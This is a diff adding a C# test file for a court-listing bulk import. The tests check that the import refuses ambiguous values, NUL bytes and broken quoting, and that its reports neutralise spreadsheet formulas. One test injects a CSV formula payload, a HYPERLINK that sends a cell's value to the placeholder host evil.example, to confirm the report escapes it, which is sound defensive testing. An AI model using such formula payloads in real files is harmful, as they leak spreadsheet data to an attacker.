@@ -1,0 +1,151 @@
+using System.Net;
+using System.Text;
+using System.Text.Json.Nodes;
+using Credit.Tests.Api;
+using Credit.Tests.Infrastructure;
+using static Credit.Tests.Bulk.BulkJobs;
+using static Credit.Tests.Infrastructure.CourtRequests;
+
+namespace Credit.Tests.Bulk;
+
+/// <summary>A cell is read as what it says or refused naming its field: never as some other value the court did not write,
+/// never by failing the whole file, and never echoed into the report as a formula Excel would run.</summary>
+[Collection(PlatformCollection.Name)]
+public sealed class BulkCellTests(PlatformFixture fixture)
+{
+    private HttpClient Liwan => fixture.Platform.Client(PlatformFixture.Liwan);
+
+    private static string[] Listing(string id, Action<Dictionary<string, string>> change)
+    {
+        var row = ChineseListingHeader.Zip(ListingRow(id, CaseNumber())).ToDictionary(p => p.First, p => p.Second);
+        change(row);
+        return [.. ChineseListingHeader.Select(h => row[h])];
+    }
+
+    [Fact]
+    public async Task Values_that_net_would_read_as_other_values_are_refused_naming_their_field_and_rule()
+    {
+        var cases = new (string Why, Action<Dictionary<string, string>> Change, string Field, string Rule)[]
+        {
+            ("two grounds read as flags would be a third", r => r["失信情形"] = "RefusesDespiteAbility, ObstructsEnforcement", "grounds[0].ground", "must be one of"),
+            ("two statuses", r => r["履行情况"] = "NotPerformed,PartlyPerformed", "performance.status", "must be one of"),
+            ("a number for a name", r => r["启动方式"] = "1", "initiative", "must be one of"),
+            ("commas that group nothing", r => r["欠款金额"] = "1,2,3", "amountOwed", "must be a number of yuan"),
+            ("a day February does not have", r => r["立案日期"] = "2026-02-30", "filingDate", "2026-02-30 has no such day"),
+        };
+        var ids = cases.Select(_ => Identities.AdultResidentId()).ToList();
+        var file = Csv([ChineseListingHeader, .. cases.Select((c, i) => Listing(ids[i], c.Change))]);
+
+        var job = await Liwan.SubmitAcceptedAsync(file);
+        await Liwan.WaitCompletedAsync(job);
+        var report = await Liwan.ReportAsync(job);
+
+        for (var i = 0; i < cases.Length; i++)
+        {
+            var line = Assert.Single(report, r => r.Line == i + 2);
+            Assert.True(line.Outcome == "Refused" && line.Field == cases[i].Field && line.Rule.Contains(cases[i].Rule, StringComparison.Ordinal),
+                $"{cases[i].Why}: {line}");
+            Assert.Equal(HttpStatusCode.NotFound, (await Liwan.GetAsync(Person(ids[i]))).StatusCode);
+        }
+    }
+
+    [Fact]
+    public async Task Grouped_thousands_are_read_as_the_amount_they_write()
+    {
+        var id = Identities.AdultResidentId();
+        var job = await Liwan.SubmitAcceptedAsync(Csv([ChineseListingHeader, Listing(id, r => r["欠款金额"] = "1,250,000.50")]));
+        await Liwan.WaitCompletedAsync(job);
+
+        var subject = await (await Liwan.GetAsync(Person(id))).JsonAsync();
+        Assert.Equal(1_250_000.50m, Assert.Single(subject.GetProperty("listings").EnumerateArray()).GetProperty("amountOwed").GetDecimal());
+    }
+
+    [Fact]
+    public async Task A_nul_in_the_action_type_or_number_refuses_that_row_and_the_rest_of_the_file_is_taken()
+    {
+        var (good, broken) = (Identities.AdultResidentId(), Identities.AdultResidentId());
+        var rows = new[]
+        {
+            Listing(broken, r => r["证件号码"] = "\0" + broken),
+            Listing(Identities.AdultResidentId(), r => r["操作"] = "列入\0失信名单"),
+            Listing(Identities.AdultResidentId(), r => r["证件类型"] = "居民\0身份证"),
+            Listing(good, _ => { }),
+        };
+
+        var job = await Liwan.SubmitAcceptedAsync(Csv([ChineseListingHeader, .. rows]));
+        await Liwan.WaitCompletedAsync(job);
+        var report = await Liwan.ReportAsync(job);
+
+        Assert.Equal(["Refused", "Refused", "Refused"], report.Where(r => r.Line is 2 or 3 or 4).DistinctBy(r => r.Line).Select(r => r.Outcome));
+        Assert.Contains(report, r => r.Line == 2 && r.Number == "\u2400" + broken);
+        Assert.Equal(HttpStatusCode.OK, (await Liwan.GetAsync(Person(good))).StatusCode);
+    }
+
+    [Fact]
+    public async Task Report_cells_that_excel_would_run_as_formulas_are_written_as_text_and_the_report_opens_as_utf8()
+    {
+        var file = Csv([ChineseListingHeader,
+            Listing(Identities.AdultResidentId(), r => r["操作"] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"),
+            Listing(Identities.AdultResidentId(), r => r["证件号码"] = "=1+2"),
+            Listing(Identities.AdultResidentId(), r => r["证件类型"] = "@SUM(1,2)")]);
+
+        var job = await Liwan.SubmitAcceptedAsync(file);
+        await Liwan.WaitCompletedAsync(job);
+        var bytes = await Liwan.GetByteArrayAsync($"{job}/report", TestContext.Current.CancellationToken);
+
+        Assert.Equal("EFBBBF", Convert.ToHexString(bytes[..3]));
+        var cells = Encoding.UTF8.GetString(bytes[3..]).Split('\n').Skip(1).SelectMany(l => l.Split(',')).Select(c => c.Trim('"')).ToList();
+        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '@' or '+');
+        Assert.Contains(cells, c => c == "'=1+2");
+    }
+
+    [Fact]
+    public async Task An_ndjson_row_with_values_beside_its_request_or_a_member_twice_is_refused_naming_the_member()
+    {
+        var (beside, twice, caseBeside) = (Identities.AdultResidentId(), Identities.AdultResidentId(), Identities.AdultResidentId());
+        var besideLine = JsonNode.Parse(NdjsonLine("listing", "resident-id", beside, PersonListing(CaseNumber(), "请求名")))!.AsObject();
+        besideLine["name"] = "平铺名";
+        var caseLine = NdjsonLine("listing", "resident-id", caseBeside, PersonListing(CaseNumber()), caseNumber: CaseNumber());
+        var twiceLine = NdjsonLine("listing", "resident-id", twice, PersonListing(CaseNumber()))
+            .Replace("\"number\":", $"\"number\":\"{Identities.AdultResidentId()}\",\"number\":", StringComparison.Ordinal);
+
+        var job = await Liwan.SubmitAcceptedAsync(string.Join('\n', besideLine.ToJsonString(), twiceLine, caseLine), "application/x-ndjson");
+        await Liwan.WaitCompletedAsync(job);
+        var report = await Liwan.ReportAsync(job);
+
+        Assert.Equal([("name", "Refused"), ("number", "Refused"), ("caseNumber", "Refused")], report.Select(r => (r.Field, r.Outcome)));
+        foreach (var id in new[] { beside, twice, caseBeside })
+            Assert.Equal(HttpStatusCode.NotFound, (await Liwan.GetAsync(Person(id))).StatusCode);
+    }
+
+    [Theory]
+    [InlineData("\n")]
+    [InlineData("")]
+    public async Task A_quote_never_closed_refuses_the_file_naming_the_line_it_opens_on_and_nothing_is_stored(string end)
+    {
+        var ids = Enumerable.Range(0, 4).Select(_ => Identities.AdultResidentId()).ToList();
+        var rows = Csv([ChineseListingHeader, .. ids.Select(id => ListingRow(id, CaseNumber()))]).TrimEnd('\r', '\n').Split('\n');
+        rows[2] = rows[2].Replace(",支付货款", ",\"支付货款", StringComparison.Ordinal);
+
+        var refused = await ProblemAssert.IsProblem(await Liwan.SubmitAsync(string.Join('\n', rows) + end), HttpStatusCode.BadRequest, "body");
+
+        Assert.Contains("opened on line 3", refused.GetRawText());
+        Assert.Contains("lines 3 to 5", refused.GetRawText());
+        foreach (var id in ids)
+            Assert.Equal(HttpStatusCode.NotFound, (await Liwan.GetAsync(Person(id))).StatusCode);
+    }
+
+    [Fact]
+    public async Task A_quote_closed_lines_later_refuses_the_file_naming_the_lines_it_swallowed()
+    {
+        var ids = Enumerable.Range(0, 5).Select(_ => Identities.AdultResidentId()).ToList();
+        var rows = Csv([ChineseListingHeader, .. ids.Select(id => ListingRow(id, CaseNumber()))]).TrimEnd('\r', '\n').Split('\n');
+        rows[2] = rows[2].Replace(",支付货款", ",\"支付货款", StringComparison.Ordinal);
+        rows[4] = rows[4].Replace(",支付货款", ",\"支付\"货款", StringComparison.Ordinal);
+
+        var refused = await ProblemAssert.IsProblem(await Liwan.SubmitAsync(string.Join('\n', rows) + "\n"), HttpStatusCode.BadRequest, "body");
+
+        Assert.Contains("opened on line 3", refused.GetRawText());
+        Assert.Contains("lines 3 to 5", refused.GetRawText());
+    }
+}
